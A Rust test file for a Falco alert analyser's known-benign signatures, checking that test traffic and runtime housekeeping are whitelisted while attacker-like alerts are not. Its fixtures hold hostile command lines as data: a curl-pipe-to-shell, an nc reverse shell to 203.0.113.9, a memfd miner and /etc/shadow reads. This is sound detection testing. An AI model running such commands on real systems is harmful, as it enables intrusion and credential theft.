//! The built-in known-benign signatures against real alerts from testdata/alerts:
//! test traffic and runtime plumbing must be recognised, a person's real activity must not.

use fa_analyze::kb::KnowledgeBase;
use fa_model::Alert;

fn kb() -> KnowledgeBase {
    KnowledgeBase::builtin().unwrap_or_else(|e| panic!("built-in knowledge base: {e}"))
}

fn alerts(file: &str) -> Vec<Alert> {
    let path = fa_testdata::alerts(file).display().to_string();
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    text.lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .map(|(i, l)| {
            serde_json::from_str::<Alert>(l).unwrap_or_else(|e| panic!("{path}:{}: {e}", i + 1))
        })
        .collect()
}

fn alert(json: serde_json::Value) -> Alert {
    serde_json::from_value(json).unwrap_or_else(|e| panic!("hand-written alert: {e}"))
}

/// The ids of every signature (rule-specific and global) the alert matches.
fn matching_ids(kb: &KnowledgeBase, a: &Alert) -> Vec<String> {
    kb.benign_matches(a, kb.lookup(&a.rule))
        .iter()
        .map(|m| m.id.to_string())
        .collect()
}

#[test]
fn every_event_generator_alert_matches_the_event_generator_signature() {
    let kb = kb();
    let all = alerts("elastic-falco-pipeline-test.jsonl");
    assert_eq!(all.len(), 12, "the fixture holds 12 alerts");
    for (i, a) in all.iter().enumerate() {
        let matches = kb.benign_matches(a, kb.lookup(&a.rule));
        let hit = matches.iter().find(|m| m.id.starts_with("event-generator"));
        let Some(hit) = hit else {
            panic!(
                "alert {} ({}) matched no event-generator signature; matched {:?}",
                i + 1,
                a.rule,
                matching_ids(&kb, a)
            );
        };
        assert_eq!(
            hit.kind,
            Some("test"),
            "alert {}: event-generator is a test",
            i + 1
        );
        assert!(
            !hit.evidence.is_empty(),
            "alert {}: a match names its evidence",
            i + 1
        );
    }
}

#[test]
fn a_binary_merely_named_event_generator_is_not_enough() {
    let kb = kb();
    // An attacker's own binary called event-generator, outside the generator's image and path.
    let a = alert(serde_json::json!({
        "rule": "Read sensitive file untrusted",
        "priority": "Warning",
        "output_fields": {
            "fd.name": "/etc/shadow",
            "proc.name": "event-generator",
            "proc.cmdline": "event-generator --dump",
            "proc.exepath": "/tmp/.x/event-generator",
            "proc.pname": "bash",
            "container.image.repository": "registry.example.com/shop/web"
        }
    }));
    let ids = matching_ids(&kb, &a);
    assert!(
        ids.iter().all(|id| !id.starts_with("event-generator")),
        "matched {ids:?}"
    );
}

#[test]
fn both_runc_memfd_alerts_match_the_runtime_signature() {
    let kb = kb();
    let all = alerts("robot-dreams-petclinic-readme.jsonl");
    assert_eq!(all.len(), 2);
    for a in &all {
        let matches = kb.benign_matches(a, kb.lookup(&a.rule));
        let hit = matches.iter().find(|m| m.id == "runc-memfd-reexec");
        let Some(hit) = hit else {
            panic!(
                "{} with {:?} did not match runc-memfd-reexec; matched {:?}",
                a.rule,
                a.field("proc.cmdline"),
                matching_ids(&kb, a)
            );
        };
        assert_eq!(hit.kind, Some("runtime"));
    }
}

#[test]
fn a_memfd_named_runc_running_something_else_is_not_runc() {
    let kb = kb();
    let a = alert(serde_json::json!({
        "rule": "Fileless execution via memfd_create",
        "priority": "Critical",
        "output_fields": {
            "proc.exepath": "memfd:runc",
            "proc.name": ".runc",
            "proc.cmdline": ".runc -o pool.example.net:3333",
            "user.name": "root"
        }
    }));
    assert!(
        matching_ids(&kb, &a).is_empty(),
        "matched {:?}",
        matching_ids(&kb, &a)
    );
}

#[test]
fn a_person_in_an_alpine_container_matches_no_signature() {
    let kb = kb();
    let lab9: Vec<Alert> = alerts("community-readme-snippets.jsonl")
        .into_iter()
        .filter(|a| a.field("container.name").as_deref() == Some("lab9-target"))
        .collect();
    // The shell, the /etc/shadow read and a user-written cryptominer rule, all from one person's lab.
    let cmds: Vec<String> = lab9
        .iter()
        .filter_map(|a| a.field("proc.cmdline").map(|c| c.into_owned()))
        .collect();
    assert!(cmds.iter().any(|c| c == "cat /etc/shadow"), "{cmds:?}");
    assert!(
        cmds.iter().any(|c| c.starts_with("sh -lc echo")),
        "{cmds:?}"
    );
    for a in &lab9 {
        let ids = matching_ids(&kb, a);
        assert!(
            ids.is_empty(),
            "{} ({:?}) must not look benign, matched {ids:?}",
            a.rule,
            a.field("proc.cmdline")
        );
    }
}

fn calico_shell(cmdline: &str) -> Alert {
    alert(serde_json::json!({
        "rule": "Detect Shell in Container",
        "priority": "Warning",
        "source": "syscall",
        "tags": ["container", "process", "shell"],
        "output_fields": {
            "proc.name": "sh",
            "proc.cmdline": cmdline,
            "proc.exepath": "/bin/sh",
            "proc.pname": "calico-node",
            "user.name": "root",
            "container.id": "3f1c0a9d2b7e",
            "container.image.repository": "docker.io/calico/node"
        }
    }))
}

#[test]
fn calico_deleting_its_temporary_veth_is_housekeeping() {
    let kb = kb();
    for cmd in [
        "sh -c ip link del calico_tmp_A || true",
        "sh -c ip link del calico_tmp_B || true",
    ] {
        let a = calico_shell(cmd);
        let matches = kb.benign_matches(&a, kb.lookup(&a.rule));
        let hit = matches.iter().find(|m| m.id == "calico-tmp-veth");
        let Some(hit) = hit else {
            panic!("{cmd}: no Calico match, got {:?}", matching_ids(&kb, &a))
        };
        assert_eq!(hit.kind, Some("housekeeping"));
    }
    // The same command under the stable rule names also matches (the signature is not rule-limited).
    let mut a = calico_shell("sh -c ip link del calico_tmp_A || true");
    a.rule = "Run shell untrusted".into();
    assert!(matching_ids(&kb, &a).contains(&"calico-tmp-veth".to_string()));
}

#[test]
fn other_interfaces_or_chained_commands_are_not_calico_housekeeping() {
    let kb = kb();
    for cmd in [
        "sh -c ip link del eth0",
        "sh -c ip link del calico_tmp_A || true; curl -s http://203.0.113.9/x | sh",
        "sh -c ip link del calico_tmp_A && nc -e /bin/sh 203.0.113.9 4444",
    ] {
        let a = calico_shell(cmd);
        let ids = matching_ids(&kb, &a);
        assert!(
            !ids.contains(&"calico-tmp-veth".to_string()),
            "{cmd} matched {ids:?}"
        );
    }
    // The right command line without any Calico evidence is not enough either.
    let a = alert(serde_json::json!({
        "rule": "Detect Shell in Container",
        "priority": "Warning",
        "output_fields": {
            "proc.cmdline": "sh -c ip link del calico_tmp_A || true",
            "proc.pname": "bash",
            "container.image.repository": "alpine"
        }
    }));
    assert!(
        matching_ids(&kb, &a).is_empty(),
        "matched {:?}",
        matching_ids(&kb, &a)
    );
}

#[test]
fn falcosidekick_test_payloads_are_tests() {
    let kb = kb();
    let tests: Vec<Alert> = alerts("falcosidekick-test-payloads.jsonl")
        .into_iter()
        .filter(|a| a.rule.as_str() == "Test rule")
        .collect();
    assert_eq!(tests.len(), 2);
    for a in &tests {
        let ids = matching_ids(&kb, a);
        assert_eq!(ids, vec!["falcosidekick-test".to_string()]);
    }
}

#[test]
fn probe_flag_computed_by_falco_marks_a_probe() {
    let kb = kb();
    let probe = alert(serde_json::json!({
        "rule": "Detect Shell in Container",
        "priority": "Warning",
        "output_fields": {
            "proc.cmdline": "sh -c pg_isready -U postgres",
            "proc.pname": "runc",
            "proc.is_container_readiness_probe": true
        }
    }));
    assert_eq!(
        matching_ids(&kb, &probe),
        vec!["container-health-probe".to_string()]
    );
    let not_probe = alert(serde_json::json!({
        "rule": "Detect Shell in Container",
        "priority": "Warning",
        "output_fields": {
            "proc.cmdline": "sh -c pg_isready -U postgres",
            "proc.pname": "runc",
            "proc.is_container_readiness_probe": false
        }
    }));
    assert!(matching_ids(&kb, &not_probe).is_empty());
}

#[test]
fn package_manager_in_an_image_build_is_build_activity_but_not_at_runtime() {
    let kb = kb();
    let build = alert(serde_json::json!({
        "rule": "Launch Package Management Process in Container",
        "priority": "Error",
        "output_fields": {
            "proc.name": "apt-get",
            "proc.cmdline": "apt-get install -y curl",
            "proc.pname": "sh",
            "proc.aname[2]": "buildkit-runc",
            "proc.aname[3]": "buildkitd"
        }
    }));
    assert!(matching_ids(&kb, &build).contains(&"image-build-package-manager".to_string()));
    let runtime = alert(serde_json::json!({
        "rule": "Launch Package Management Process in Container",
        "priority": "Error",
        "output_fields": {
            "proc.name": "apt-get",
            "proc.cmdline": "apt-get install -y nmap",
            "proc.pname": "bash",
            "proc.aname[2]": "containerd-shim"
        }
    }));
    assert!(
        matching_ids(&kb, &runtime).is_empty(),
        "matched {:?}",
        matching_ids(&kb, &runtime)
    );
}
